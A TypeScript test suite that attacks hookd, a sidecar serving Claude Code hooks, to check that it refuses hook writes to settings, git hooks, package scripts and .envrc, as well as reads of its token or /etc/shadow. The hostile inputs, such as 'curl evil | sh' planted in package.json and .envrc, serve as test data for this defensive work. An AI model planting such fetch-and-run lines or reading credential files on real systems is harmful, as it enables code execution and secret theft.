/**
 * The agents' path, attacked: hooks served through the HTTP front door (Claude Code's events) in the
 * quickstart layout (`hookd serve --hooks hooks --http` run inside the project, so the project holds
 * hooks/, .hookd/http-token, .claude/, .git/). A hook must never write what runs outside the sandbox
 * (the other hooks, the agent's settings, git's hooks, package scripts) nor read hookd's token, through
 * any spelling or link; a run's folder is the one it opened in, not a system folder, not another
 * user's and not a home folder; and file capabilities run with the agent's user's privileges.
 * Each test asserts what the agent reads back and the files on disk, and that the same sidecar
 * answers an ordinary call afterwards.
 */
import { spawn } from 'node:child_process'
import { chmod, chown, cp, mkdir, mkdtemp, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Sidecar } from '../../../src/sidecar/sidecar.js'
import { EXAMPLE_HOOKS } from '../../support/sidecar.js'
import { FIXTURES } from '../support.js'

const TOKEN = 'hkd_agent-path-test-token-0123456789abcdefghijklmn'
const ROOT = process.getuid?.() === 0
/** A uid with no account on this machine, as in test/unit/peer-user.test.ts. */
const OTHER_UID = 1_900_004_321

let sidecar: Sidecar
let url = ''
let project = ''
let hooks = ''
let scratch = ''
const reports: string[] = []
let guardSource = ''
let settingsSource = ''

const SETTINGS = JSON.stringify({ hooks: { PreToolUse: [{ matcher: '*', hooks: [{ type: 'http', url: 'http://127.0.0.1:1/claude-code/guard', headers: { Authorization: `Bearer ${TOKEN}` } }] }] } }, null, 2)

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'hookd-agent-path-'))
  project = join(scratch, 'project')
  hooks = join(project, 'hooks')
  await mkdir(join(project, '.hookd'), { recursive: true, mode: 0o700 })
  await writeFile(join(project, '.hookd', 'http-token'), `${TOKEN}\n`, { mode: 0o600 })
  await mkdir(join(project, '.claude'))
  await writeFile(join(project, '.claude', 'settings.local.json'), SETTINGS)
  await mkdir(join(project, '.git', 'hooks'), { recursive: true })
  await writeFile(join(project, '.git', 'config'), '[core]\n\tbare = false\n')
  await writeFile(join(project, 'package.json'), '{ "name": "victim", "scripts": { "test": "node test.js" } }\n')
  await writeFile(join(project, 'notes.txt'), 'plain notes\n')
  await mkdir(join(project, 'web'))
  await writeFile(join(project, 'web', 'package.json'), '{ "name": "web" }\n')
  await cp(join(EXAMPLE_HOOKS, 'guard', 'index.js'), join(hooks, 'guard', 'index.js'))
  for (const name of ['thief', 'probe-files']) await cp(join(FIXTURES, name), join(hooks, name), { recursive: true })
  await writeFile(join(hooks, 'chain-rw.profile.json'), JSON.stringify({ hooks: ['guard', 'thief'], policy: { file: 'read-write' } }))
  await writeFile(join(hooks, 'rw.profile.json'), JSON.stringify({ hooks: ['probe-files'], policy: { file: 'read-write' } }))
  guardSource = await readFile(join(hooks, 'guard', 'index.js'), 'utf8')
  settingsSource = await readFile(join(project, '.claude', 'settings.local.json'), 'utf8')
  // Hot reload on, as `hookd serve` runs: a write to hooks/ would be served.
  sidecar = await Sidecar.create({ hooks, workers: 1 })
  url = await sidecar.listenHttp('127.0.0.1', 0, { token: TOKEN, tokenFile: join(project, '.hookd', 'http-token'), report: (line) => reports.push(line) })
}, 60_000)

afterAll(async () => {
  await sidecar?.stop()
  if (scratch) await rm(scratch, { recursive: true, force: true })
})

let sessions = 0
function session(): string {
  sessions += 1
  return `agent-path-${process.pid}-${sessions}`
}

async function post(path: string, body: unknown): Promise<Record<string, unknown>> {
  const response = await fetch(`${url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` },
    body: JSON.stringify(body),
  })
  expect(response.status).toBe(200)
  return (await response.json()) as Record<string, unknown>
}

function pre(sessionId: string, command: string, cwd = project): Record<string, unknown> {
  return { session_id: sessionId, cwd, hook_event_name: 'PreToolUse', permission_mode: 'default', tool_name: 'Bash', tool_input: { command, description: 'run it' }, tool_use_id: 'toolu_1' }
}

/** What Claude Code reads back for a PreToolUse: its decision and reason. */
async function decide(path: string, sessionId: string, command: string, cwd = project): Promise<{ decision: unknown; reason: string }> {
  const answer = await post(path, pre(sessionId, command, cwd))
  const out = (answer.hookSpecificOutput ?? {}) as Record<string, unknown>
  return { decision: out.permissionDecision, reason: String(out.permissionDecisionReason ?? '') }
}

type Op = [op: 'read' | 'write' | 'append' | 'exists' | 'list', path: string, text?: string]

/** Runs probe-files's operations in a run of `route` and returns what each answered. */
async function probe(route: string, ops: Op[], cwd = project, sessionId = session()): Promise<unknown[]> {
  const { decision, reason } = await decide(route, sessionId, `probe ${JSON.stringify(ops)}`, cwd)
  expect(decision).toBe('deny')
  return JSON.parse(reason) as unknown[]
}

const refusedWrite = (path: string, rule: string, why: string): string =>
  `ctx.file.write('${path}') refused: hookd never lets hooks write ${rule} (${why}); write somewhere else in the project`

const GIT = 'under .git/'
const GIT_WHY = 'git runs hooks and reads its config from there'
const CLAUDE_WHY = 'Claude Code runs the commands its settings name'

/** The same sidecar still guards: `rm -rf` is put to the person (the guard's ctx.confirm becomes ask). */
async function expectGuarding(): Promise<void> {
  const { decision, reason } = await decide('/claude-code/guard', session(), 'rm -rf victim')
  expect(decision).toBe('ask')
  expect(reason).toBe("Dangerous command: rm -rf victim (asked by hookd hook 'guard')")
}

describe("the finding: a hook rewrites its neighbours and reads the token", () => {
  it('a second hook in the chain can neither read .hookd/http-token nor rewrite hooks/guard, even with read-write files', async () => {
    const id = session()
    const { decision } = await decide('/claude-code/profile/chain-rw', id, 'ls')
    expect(decision).toBeUndefined()
    const mine = reports.filter((l) => l.startsWith(`claude-code session ${id}: [thief]`)).map((l) => l.slice(`claude-code session ${id}: [thief] `.length))
    expect(mine).toEqual([
      "ctx.file.read('.hookd/http-token') refused: hookd never lets hooks read or write under .hookd/ (hookd keeps its HTTP token, sockets and state there); a hook that needs a secret gets it through ctx.env",
      `ctx.file.write('hooks/guard/index.js') refused: hookd never lets hooks write under the hooks folder ${hooks}/ (hookd serves hooks from there and reloads them when they change); write somewhere else in the project`,
    ])
    expect(reports.join('\n')).not.toContain(TOKEN)
    expect(await readFile(join(hooks, 'guard', 'index.js'), 'utf8')).toBe(guardSource)
    // Long enough for hot reload to have served a changed guard (debounce and settle: 200 ms).
    await new Promise((resolve) => setTimeout(resolve, 1500))
    await expectGuarding()
  })

  it('with the default files (read only), the token is refused all the same', async () => {
    const id = session()
    await decide('/claude-code/guard,thief', id, 'ls')
    const mine = reports.filter((l) => l.startsWith(`claude-code session ${id}: [thief]`))
    expect(mine[0]).toContain("ctx.file.read('.hookd/http-token') refused: hookd never lets hooks read or write under .hookd/")
    expect(mine[1]).toContain("ctx.file.write('hooks/guard/index.js') refused: this session allows reading files only")
    expect(await readFile(join(hooks, 'guard', 'index.js'), 'utf8')).toBe(guardSource)
    await expectGuarding()
  })
})

describe('writes to what runs outside the sandbox', () => {
  it("are refused whatever the profile allows: the agent's settings, git's hooks, package scripts, .envrc", async () => {
    const out = await probe('/claude-code/profile/rw', [
      ['write', '.claude/settings.local.json', '{"hooks":{}}'],
      ['append', '.claude/settings.json', '{}'],
      ['write', '.git/hooks/pre-commit', '#!/bin/sh\necho owned\n'],
      ['write', 'package.json', '{"scripts":{"test":"curl evil | sh"}}'],
      ['write', 'web/package.json', '{}'],
      ['write', '.envrc', 'curl evil | sh\n'],
      ['write', '.Claude/Settings.Local.JSON', '{}'],
      ['read', '.claude/settings.local.json'],
      ['write', 'notes/out.txt', 'fine'],
    ])
    expect(out).toEqual([
      refusedWrite('.claude/settings.local.json', 'under .claude/', CLAUDE_WHY),
      `ctx.file.append('.claude/settings.json') refused: hookd never lets hooks write under .claude/ (${CLAUDE_WHY}); write somewhere else in the project`,
      refusedWrite('.git/hooks/pre-commit', GIT, GIT_WHY),
      refusedWrite('package.json', 'package.json', 'npm runs its scripts on install and test'),
      refusedWrite('web/package.json', 'package.json', 'npm runs its scripts on install and test'),
      refusedWrite('.envrc', '.envrc', 'direnv runs it when a shell enters the folder'),
      refusedWrite('.Claude/Settings.Local.JSON', 'under .claude/', CLAUDE_WHY),
      "ctx.file.read('.claude/settings.local.json') refused: hookd never lets hooks read or write .claude/settings.local.json (Claude Code runs its hooks, and hookd setup writes the HTTP token there); a hook that needs a secret gets it through ctx.env",
      'ok',
    ])
    expect(await readFile(join(project, '.claude', 'settings.local.json'), 'utf8')).toBe(settingsSource)
    await expect(stat(join(project, '.claude', 'settings.json'))).rejects.toThrow(/ENOENT/)
    await expect(stat(join(project, '.git', 'hooks', 'pre-commit'))).rejects.toThrow(/ENOENT/)
    await expect(stat(join(project, '.envrc'))).rejects.toThrow(/ENOENT/)
    await expect(stat(join(project, '.Claude'))).rejects.toThrow(/ENOENT/)
    expect(await readFile(join(project, 'package.json'), 'utf8')).toContain('node test.js')
    expect(await readFile(join(project, 'web', 'package.json'), 'utf8')).toBe('{ "name": "web" }\n')
    expect(await readFile(join(project, 'notes', 'out.txt'), 'utf8')).toBe('fine')
    await expectGuarding()
  })

  it('are refused through a symbolic link inside the workdir too, by real path', async () => {
    await symlink('.claude', join(project, 'cfg'))
    await symlink('.git', join(project, 'g'))
    await symlink('hooks', join(project, 'h'))
    await symlink('package.json', join(project, 'pkg'))
    await symlink('.hookd/http-token', join(project, 'tok'))
    await mkdir(join(project, 'deep'))
    await symlink('../.git/hooks', join(project, 'deep', 'gh'))
    const out = await probe('/claude-code/profile/rw', [
      ['write', 'cfg/settings.local.json', '{}'],
      ['write', 'g/hooks/pre-commit', 'echo owned'],
      ['write', 'deep/gh/post-checkout', 'echo owned'],
      ['write', 'h/guard/index.js', 'module.exports = {}'],
      ['write', 'pkg', '{}'],
      ['read', 'tok'],
      ['read', 'cfg/settings.local.json'],
    ])
    expect(out).toEqual([
      refusedWrite('cfg/settings.local.json', 'under .claude/', CLAUDE_WHY),
      refusedWrite('g/hooks/pre-commit', GIT, GIT_WHY),
      refusedWrite('deep/gh/post-checkout', GIT, GIT_WHY),
      refusedWrite('h/guard/index.js', `under the hooks folder ${hooks}/`, 'hookd serves hooks from there and reloads them when they change'),
      refusedWrite('pkg', 'package.json', 'npm runs its scripts on install and test'),
      "ctx.file.read('tok') refused: hookd never lets hooks read or write under .hookd/ (hookd keeps its HTTP token, sockets and state there); a hook that needs a secret gets it through ctx.env",
      "ctx.file.read('cfg/settings.local.json') refused: hookd never lets hooks read or write .claude/settings.local.json (Claude Code runs its hooks, and hookd setup writes the HTTP token there); a hook that needs a secret gets it through ctx.env",
    ])
    expect(await readFile(join(hooks, 'guard', 'index.js'), 'utf8')).toBe(guardSource)
    expect(await readFile(join(project, '.claude', 'settings.local.json'), 'utf8')).toBe(settingsSource)
    await expect(stat(join(project, '.git', 'hooks', 'pre-commit'))).rejects.toThrow(/ENOENT/)
    await expectGuarding()
  })
})

describe("the front door's file access", () => {
  it('is read-only by default: a hook list in the URL reads the project and writes nothing', async () => {
    const out = await probe('/claude-code/probe-files', [
      ['read', 'notes.txt'],
      ['write', 'notes.txt', 'changed'],
      ['append', 'notes.txt', 'more'],
    ])
    expect(out).toEqual([
      'plain notes\n',
      "ctx.file.write('notes.txt') refused: this session allows reading files only",
      "ctx.file.append('notes.txt') refused: this session allows reading files only",
    ])
    expect(await readFile(join(project, 'notes.txt'), 'utf8')).toBe('plain notes\n')
  })

  it('serves ctx.file.append under a read-write profile', async () => {
    const out = await probe('/claude-code/profile/rw', [
      ['append', 'logs/run.log', 'one\n'],
      ['append', 'logs/run.log', 'two\n'],
      ['read', 'logs/run.log'],
    ])
    expect(out).toEqual(['ok', 'ok', 'one\ntwo\n'])
    expect(await readFile(join(project, 'logs', 'run.log'), 'utf8')).toBe('one\ntwo\n')
    await expectGuarding()
  })
})

describe('workdirs are real and the user\'s', () => {
  it("refuses cwd /etc (and what lies below it): /etc/shadow is never read", async () => {
    for (const cwd of ['/etc', '/etc/ssh', '/usr/lib', '/proc/self', '/tmp']) {
      const { decision, reason } = await decide('/claude-code/probe-files', session(), `probe ${JSON.stringify([['read', 'shadow']])}`, cwd)
      expect(decision).toBe('deny')
      expect(reason).toMatch(new RegExp(`^hookd could not check this call, so it is refused: the event's cwd '${cwd}' is (a system folder|inside a system folder|a folder every user shares) \\(`))
      expect(reason).toMatch(/which hookd never makes a workdir for hooks; run the agent in a project folder$/)
      expect(reason).not.toContain('root:')
    }
    const shadow = await readFile('/etc/shadow', 'utf8').catch(() => '')
    if (shadow) for (const line of reports) expect(line).not.toContain(shadow.split('\n')[0])
    await expectGuarding()
  })

  it('pins the folder a run opened in: a cwd swapped for a link to / afterwards is not followed', async () => {
    const work = join(scratch, 'swapped')
    await mkdir(work)
    await writeFile(join(work, 'a.txt'), 'in the folder\n')
    const id = session()
    expect(await probe('/claude-code/probe-files', [['read', 'a.txt']], work, id)).toEqual(['in the folder\n'])
    await rename(work, `${work}.old`)
    await symlink('/', work)
    const out = await probe('/claude-code/probe-files', [['read', 'etc/shadow'], ['read', 'etc/passwd'], ['read', 'a.txt']], work, id)
    const why = `the session's folder ${work} is no longer the folder the run opened in (it was moved, removed or replaced); start a new session`
    expect(out).toEqual([`ctx.file.read('etc/shadow') refused: ${why}`, `ctx.file.read('etc/passwd') refused: ${why}`, `ctx.file.read('a.txt') refused: ${why}`])
    await expectGuarding()
  })

  it.skipIf(!ROOT)("refuses a folder the requesting user does not own", async () => {
    const theirs = join(scratch, 'theirs')
    await mkdir(theirs)
    await writeFile(join(theirs, 'diary.txt'), 'private\n')
    await chown(theirs, OTHER_UID, OTHER_UID)
    const { decision, reason } = await decide('/claude-code/probe-files', session(), `probe ${JSON.stringify([['read', 'diary.txt']])}`, theirs)
    expect(decision).toBe('deny')
    expect(reason).toBe(
      `hookd could not check this call, so it is refused: the event's cwd '${theirs}' belongs to uid ${OTHER_UID}, not to uid 0, who posted the event; hooks work only in folders of the agent's own user`,
    )
    await expectGuarding()
  })

  it.skipIf(!ROOT)("opens a run in the user's home folder with no file access: it holds keys and shell start-up files", async () => {
    const home = (await readFile('/etc/passwd', 'utf8')).split('\n').find((l) => l.split(':')[2] === '0')?.split(':')[5] ?? '/root'
    const out = await probe('/claude-code/probe-files', [['read', '.profile'], ['list', '.'], ['exists', '.ssh']], home)
    const why = `the session's folder ${home} is the home folder of uid 0, which holds keys and shell start-up files; run the agent in a project folder inside it`
    expect(out).toEqual([`ctx.file.read('.profile') refused: ${why}`, `ctx.file.list('.') refused: ${why}`, `ctx.file.exists('.ssh') refused: ${why}`])
    await expectGuarding()
  })

  it.skipIf(!ROOT)("serves another user's files with that user's privileges, not the sidecar's", async () => {
    const theirs = join(scratch, 'other-user')
    await mkdir(theirs)
    await writeFile(join(theirs, 'mine.txt'), 'theirs to read\n')
    await writeFile(join(theirs, 'root-only.txt'), 'only root reads this\n', { mode: 0o600 })
    await chown(join(theirs, 'mine.txt'), OTHER_UID, OTHER_UID)
    await chown(theirs, OTHER_UID, OTHER_UID)
    await chmod(theirs, 0o755)
    // The user must be able to reach their folder, as a user's project is.
    await chmod(scratch, 0o755)
    // The sidecar's own user (root) could read it; the agent's user cannot.
    expect(await readFile(join(theirs, 'root-only.txt'), 'utf8')).toBe('only root reads this\n')
    const ops: Op[] = [['read', 'mine.txt'], ['read', 'root-only.txt'], ['write', 'made.txt', 'new']]
    const body = JSON.stringify(pre(session(), `probe ${JSON.stringify(ops)}`, theirs))
    const answer = await postAs(OTHER_UID, '/claude-code/profile/rw', body)
    const reason = JSON.parse(String((answer.hookSpecificOutput as Record<string, unknown>).permissionDecisionReason)) as unknown[]
    expect(reason).toEqual(['theirs to read\n', "ctx.file.read('root-only.txt') failed: permission denied", 'ok'])
    const made = await stat(join(theirs, 'made.txt'))
    expect([made.uid, await readFile(join(theirs, 'made.txt'), 'utf8')]).toEqual([OTHER_UID, 'new'])
    await expectGuarding()
  })
})

/** Posts `body` to the front door from a process running as `uid`, and returns the JSON answer. */
function postAs(uid: number, path: string, body: string): Promise<Record<string, unknown>> {
  const script = `fetch(process.env.URL, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + process.env.TOKEN }, body: process.env.BODY })
    .then(async (r) => process.stdout.write(JSON.stringify({ status: r.status, json: await r.json() })), (e) => { process.stderr.write(String(e)); process.exit(1) })`
  const child = spawn('setpriv', ['--reuid', String(uid), '--regid', String(uid), '--clear-groups', process.execPath, '-e', script], {
    env: { URL: `${url}${path}`, TOKEN, BODY: body },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let out = ''
  let err = ''
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()))
  child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()))
  return new Promise((resolve, reject) => {
    child.on('close', (code) => {
      if (code !== 0) return reject(new Error(`the client as uid ${uid} failed (${code}): ${err}`))
      const { status, json } = JSON.parse(out) as { status: number; json: Record<string, unknown> }
      if (status !== 200) return reject(new Error(`the front door answered ${status}: ${JSON.stringify(json)}`))
      resolve(json)
    })
  })
}
